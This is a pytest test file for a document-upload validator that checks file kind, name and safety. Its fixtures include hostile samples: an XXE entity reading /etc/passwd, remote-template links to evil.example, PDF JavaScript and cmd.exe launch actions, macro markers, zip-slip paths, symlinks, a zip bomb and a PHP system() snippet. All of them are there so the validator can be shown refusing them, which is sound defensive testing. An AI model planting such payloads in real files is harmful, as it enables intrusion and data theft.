"""Documents: what they are is found inside; the name must agree; what is dangerous is refused with its reason."""

import stat
import zipfile
import zlib
from io import BytesIO

import pypdfium2 as pdfium
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tajryiba.core.errors import DomainError
from tajryiba.media import archives, documents
from tajryiba.media.documents import check_document
from tajryiba.media.enums import DocumentKind
from tests.factories.media import archive, odf_files, office_files, ole, pdf, upload

XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
RELS = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'


LINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def related(kind: str, target: str, mode: str = "Internal") -> str:
    return f'<Relationships><Relationship Type="{LINK}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def typed(content_type: str, more: str = "") -> bytes:
    """A DOCX that says that it holds something of this type besides."""
    files = office_files()
    override = f'<Override PartName="/word/x.bin" ContentType="{content_type}"/>{more}</Types>'
    return archive({**files, "[Content_Types].xml": files["[Content_Types].xml"].replace("</Types>", override)})


def refused(name: str, data: bytes) -> str:
    with pytest.raises(DomainError) as caught:
        check_document(upload(name, data))
    assert str(caught.value)
    return caught.value.code


def docx(**extra) -> bytes:
    return archive({**office_files(), **{name.replace("__", "/"): data for name, data in extra.items()}})


@pytest.mark.parametrize(
    ("name", "data", "kind", "pages"),
    [
        ("a.pdf", pdf(3), "pdf", 3),
        ("a.PDF", pdf(), "pdf", 1),
        ("a.docx", archive(office_files("docx")), "docx", None),
        ("a.xlsx", archive(office_files("xlsx")), "xlsx", None),
        ("a.pptx", archive(office_files("pptx")), "pptx", None),
        ("a.odt", archive(odf_files("text"), stored=("mimetype",)), "odt", None),
        ("a.ods", archive(odf_files("spreadsheet")), "ods", None),
        ("a.doc", ole("WordDocument", "1Table"), "doc", None),
        ("a.xls", ole("Workbook"), "xls", None),
        ("a.xls", ole("Book"), "xls", None),
        ("a.rtf", b"{\\rtf1 salam}", "rtf", None),
        ("a.csv", "аты;сомасы\nсуу;5".encode(), "csv", None),
        ("a.txt", "Жергиликтүү кеңеш".encode(), "txt", None),
        ("a.txt", "Отчёт".encode("cp1251"), "txt", None),
        ("a.txt", "Отчёт".encode("utf-16"), "txt", None),
        ("бир.эки.үч.txt", b"three", "txt", None),
    ],
)
def test_every_accepted_kind(name, data, kind, pages):
    clean = check_document(upload(name, data))
    assert (clean.facts.kind, clean.facts.pages) == (kind, pages)
    assert clean.name.endswith(f".{kind}") and clean.name.isascii()
    clean.seek(0)
    assert clean.read() == data


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("a.pdf", b"MZ\x90\0\3\0\0\0 This program cannot be run in DOS mode", "unknown_kind"),
        ("a.docx", b"<html><script>alert(1)</script></html>", "unknown_kind"),
        ("a.txt", b"\n <!DOCTYPE html><p>page", "unknown_kind"),
        ("a.txt", b"<?php system('id');", "unknown_kind"),
        ("a.csv", b"\x7fELF\2\1\1\0", "unknown_kind"),
        ("a.txt", b"a\0b", "unknown_kind"),
        ("a.txt", b"\xff\xfe\x00", "unknown_kind"),
        ("a.docx", pdf(), "disguised"),
        ("a.pdf", archive(office_files()), "disguised"),
        ("a.xlsx", archive(office_files("docx")), "disguised"),
        ("a.odt", archive(odf_files("spreadsheet")), "disguised"),
        ("a.pdf", b"{\\rtf1}", "disguised"),
        ("a.xls", ole("WordDocument"), "disguised"),
        ("a.docx", archive({"a.txt": "x"}), "unknown_kind"),
        ("a.docx", archive({"[Content_Types].xml": "<Types/>"}), "unknown_kind"),
        ("a.odt", archive({"mimetype": "application/vnd.oasis.opendocument.text"}), "unknown_kind"),
        ("a.doc", ole("PowerPoint Document"), "unknown_kind"),
        ("a.zip", archive({"a.txt": "x"}), "unknown_kind"),
        ("a.mp4", b"\0\0\0\x18ftypmp42", "unknown_kind"),
        ("a.html", b"<html>", "unknown_kind"),
        ("a", pdf(), "unknown_kind"),
        ("a.pdf.exe", pdf(), "unknown_kind"),
        ("a.exe.pdf", pdf(), "bad_name"),
        ("a.php .txt", b"x", "bad_name"),
        ("a.docm", docx(), "unknown_kind"),
        ("a.pdf", b"", "empty"),
        ("a.txt", b" \n ", "empty"),
    ],
)
def test_what_is_not_accepted(name, data, code):
    assert refused(name, data) == code


def test_a_null_byte_in_the_name_is_refused():
    file = upload("x.pdf", pdf())
    file._name = "a.php\0.pdf"
    with pytest.raises(DomainError) as caught:
        check_document(file)
    assert caught.value.code == "bad_name"


def test_size_limit(monkeypatch):
    data = pdf()
    monkeypatch.setattr(documents, "WAGTAILDOCS_MAX_UPLOAD_SIZE", len(data))
    check_document(upload("a.pdf", data))
    assert refused("a.pdf", data + b"\n") == "too_large"


# --- PDF ---


@pytest.mark.parametrize("data", [b"%PDF-1.7\n", b"%PDF-1.7 nonsense" * 50, pdf(0), pdf()[:200]])
def test_broken_pdf(data):
    assert refused("a.pdf", data) == "broken"


PACKED = zlib.compress(b"1 0 2 50 << /S /JavaScript /JS (app.alert) >>")


@pytest.mark.parametrize(
    ("catalog", "extra"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", b""),
        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b""),
        (b"/AA << /O << /S /J#61vaScript /JS 9 0 R >> >>", b""),
        (b"/Names << /JavaScript 9 0 R >>", b""),
        (b"/X [\n%stream\n] /OpenAction << /S /JavaScript /JS (x) >>\n%endstream\n", b""),
        (b"/X [\n%stream\n] /OpenAction << /S /#4Caunch /F (a.exe) >>\n%endstream\n", b""),
        (b"/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>", b""),
        (b"/AcroForm << /Fields [] /XFA 4 0 R >>", b""),
        (b"/AcroForm << /Fields [] /XFA [(a) 4 0 R] >>", b""),
        (b"/OpenAction 6 0 R", b"%stream\n<< /S /Rendition /JS (x) >>\n%endstream"),
        (b"/X 6 0 R", b"%stream\n<< /Subtype /RichMedia >>\n%endstream"),
        (b"", b"<< /Type /ObjStm /N 1 /First 4 /Length %d >>\nstream\n%s\nendstream" % (len(PACKED), PACKED)),
    ],
)
def test_pdf_with_scripts_or_programs(catalog, extra):
    assert refused("a.pdf", pdf(catalog=catalog, extra=extra)) == "active"


@pytest.mark.parametrize(
    "extra",
    [
        b"<< /Length 40 >>\nstream\n/JavaScript /Launch /JS ( in a picture)\nendstream",
        b"<< /Type /ObjStm /Length 9 >>\nstream\nnot zlib!\nendstream",
        b"<< /Type /ObjStm >>\nstream\nwithout end",
    ],
)
def test_pdf_whose_streams_only_look_so(extra):
    assert check_document(upload("a.pdf", pdf(extra=extra))).facts.kind == "pdf"


def test_pdf_with_a_password_is_refused_with_that_reason():
    encryption = b"<< /Filter /Standard /V 1 /R 2 /P -44 /O <" + b"28" * 32 + b"> /U <" + b"31" * 32 + b"> >>"
    data = pdf(extra=encryption).replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 6 0 R /ID [<00> <00>]")
    assert refused("a.pdf", data) == "encrypted"


def test_pdf_that_cannot_be_written_anew_is_refused(monkeypatch):
    def fail(*_arguments, **_options):
        raise pdfium.PdfiumError("no")

    monkeypatch.setattr(pdfium.PdfDocument, "save", fail)
    assert refused("a.pdf", pdf()) == "broken"


# --- Archives ---


@pytest.mark.parametrize(
    "data",
    [
        docx(**{"word__vbaProject.bin": b"\xd0\xcf"}),
        docx(**{"word__vbaData.xml": b"<x/>"}),
        docx(**{"word__activeX__activeX1.bin": b"x"}),
        docx(**{"word___rels__settings.xml.rels": RELS}),
        docx(**{"word___rels__conf.xml.rels": RELS}),
        docx(**{"word___rels__conf.XML.RELS": RELS}),
        docx(**{"word___rels__conf.xml.rels": f'<?xml version="1.0" encoding="utf-16"?>{RELS}'.encode("utf-16")}),
        docx(**{"word___rels__conf.xml.rels": RELS.replace("External", "Externa&#108;")}),
        docx(**{"word___rels__conf.xml.rels": RELS.replace("attachedTemplate", "attached&#84;emplate/")}),
        docx(**{"word___rels__document.xml.rels": related("image", "http://evil.example/a.png", "External")}),
        docx(**{"word___rels__document.xml.rels": related("oleObject", "embeddings/a.bin")}),
        docx(**{"word___rels__document.xml.rels": related("OLEOBJECT", "a.png")}),
        docx(**{"word___rels__document.xml.rels": related("package", "media/a.xlsx")}),
        docx(**{"xl___rels__workbook.xml.rels": related("externalLink", "externalLinks/externalLink1.xml")}),
        docx(**{"word___rels__document.xml.rels": related("aFChunk", "a.htm")}),
        docx(**{"word___rels__document.xml.rels": related("vbaProject", "pictures.png")}),
        docx(**{"word__embeddings__oleObject1.bin": b"x"}),
        typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
        typed("application/vnd.ms-office.vba&#80;roject"),
        typed("application/vnd.ms-word.document.macro&#69;nabled.main+xml", more="<!-- document.main+xml -->"),
        typed("application/vnd.openxmlformats-officedocument.oleObject"),
    ],
)
def test_macros_are_refused(data):
    assert refused("a.docx", data) == "active"


def test_macros_in_other_formats_are_refused():
    assert refused("a.odt", archive({**odf_files(), "Basic/Standard/Module1.xml": "<x/>"})) == "active"
    assert refused("a.doc", ole("WordDocument", "Macros", "VBA")) == "active"
    assert refused("a.xls", ole("Workbook", "_VBA_PROJECT_CUR")) == "active"
    assert refused("a.doc", ole("WordDocument", "ObjectPool", "\x01Ole10Native")) == "active"
    assert refused("a.rtf", b"{\\rtf1 {\\object\\objemb{\\*\\OBJDATA 0105}}}") == "active"


def test_encrypted_office_files_are_refused_with_that_reason():
    assert refused("a.docx", ole("EncryptedPackage", "EncryptionInfo")) == "encrypted"
    encrypted = {**odf_files(), "META-INF/manifest.xml": "<manifest:encryption-data/>"}
    assert refused("a.odt", archive(encrypted)) == "encrypted"
    flagged = archive(office_files()).replace(b"PK\1\2\x14\x03\x14\0\0\0", b"PK\1\2\x14\x03\x14\0\1\0")
    assert refused("a.docx", flagged) == "encrypted"


def test_zip_bomb_is_refused():
    data = docx(**{"word__media__x.bin": b"\0" * (30 * 1024 * 1024)})
    assert len(data) < 100_000
    assert refused("a.docx", data) == "bomb"


def test_unpacked_size_and_number_of_entries_are_limited(monkeypatch):
    data = archive(office_files())
    monkeypatch.setattr(archives, "MAX_UNPACKED", 100)
    assert refused("a.docx", data) == "bomb"
    monkeypatch.undo()
    monkeypatch.setattr(archives, "MAX_ENTRIES", 2)
    assert refused("a.docx", data) == "bomb"


@pytest.mark.parametrize("name", ["../../evil.sh", "/etc/passwd", "word/../../x", "..\\evil", "C:/evil"])
def test_zip_slip_is_refused(name):
    assert refused("a.docx", archive({**office_files(), name: b"x"})) == "unsafe_paths"


def test_symbolic_links_and_doubled_names_are_refused():
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for name, data in office_files().items():
            target.writestr(name, data)
        link = zipfile.ZipInfo("word/link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        target.writestr(link, "/etc/passwd")
    assert refused("a.docx", out.getvalue()) == "unsafe_paths"

    out = BytesIO()
    with zipfile.ZipFile(out, "w") as target, pytest.warns(UserWarning, match="Duplicate name"):
        for name, data in [*office_files().items(), ("word/document.xml", "other")]:
            target.writestr(name, data)
    assert refused("a.docx", out.getvalue()) == "unsafe_paths"


FAR = XXE.replace("<!DOCTYPE", f"<!-- {'x' * 200_000} --><!DOCTYPE")


@pytest.mark.parametrize("xml", [XXE.encode(), XXE.encode("utf-16"), FAR.encode(), FAR.encode("utf-16")])
@pytest.mark.parametrize("name", ["word__footnotes.xml", "word__footnotes.dat", "word___rels__x.rels"])
def test_xml_with_declarations_is_refused(name, xml):
    assert refused("a.docx", docx(**{name: xml})) == "dtd"


def test_what_office_programs_write_is_taken():
    links = related("hyperlink", "https://example.kg/", "External") + f"<!-- {'x' * 5000} -->"
    usual = {
        "word___rels__document.xml.rels": links,
        "word__media__image1.png": b"\x89PNG <!DOCTYPE",
        "word__media__broken.bin": b"<<not xml",
        "customXml__item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"),
        "word__empty.xml": b"",
    }
    assert check_document(upload("a.docx", docx(**usual))).facts.kind == "docx"


@pytest.mark.parametrize(
    "parts",
    [
        {"word___rels__x.rels": b"<Relationships>"},
        {"word__x.xml": b"no xml"},
        {"word__x.xml": b"<!--" + b" " * (1024 * 1024)},
        {"word___rels__x.rels": b"<Relationships/>" + b" " * (4 * 1024 * 1024)},
    ],
)
def test_parts_that_cannot_be_read_are_refused(parts):
    assert refused("a.docx", docx(**parts)) == "broken"


def test_a_damaged_archive_is_refused_clearly():
    data = archive(office_files())
    assert refused("a.docx", data[: len(data) // 2]) == "broken"
    at = data.index(b"[Content_Types].xml") + 30
    assert refused("a.docx", data[:at] + b"\xff" * 40 + data[at + 40 :]) == "broken"


SOUND = {
    "pdf": pdf(),
    "docx": archive(office_files()),
    "doc": ole("WordDocument"),
}


@given(st.sampled_from(sorted(SOUND)), st.binary(max_size=60), st.integers(0, 900))
def test_damaged_bytes_never_end_in_anything_but_a_clear_refusal(kind, noise, place):
    data = bytearray(SOUND[kind])
    data[place : place + len(noise)] = noise
    try:
        assert check_document(upload(f"a.{kind}", bytes(data))).facts.kind == kind
    except DomainError as refusal:
        assert refusal.code


@given(st.text(max_size=80))
def test_any_name_is_taken_or_refused_clearly(name):
    file = upload("x.txt", b"text")
    file._name = f"{name}.txt"
    try:
        clean = check_document(file)
    except DomainError as refusal:
        assert refusal.code in {"bad_name", "unknown_kind"}
    else:
        assert clean.facts.kind == DocumentKind.TXT
        assert clean.name.isascii() and "/" not in clean.name
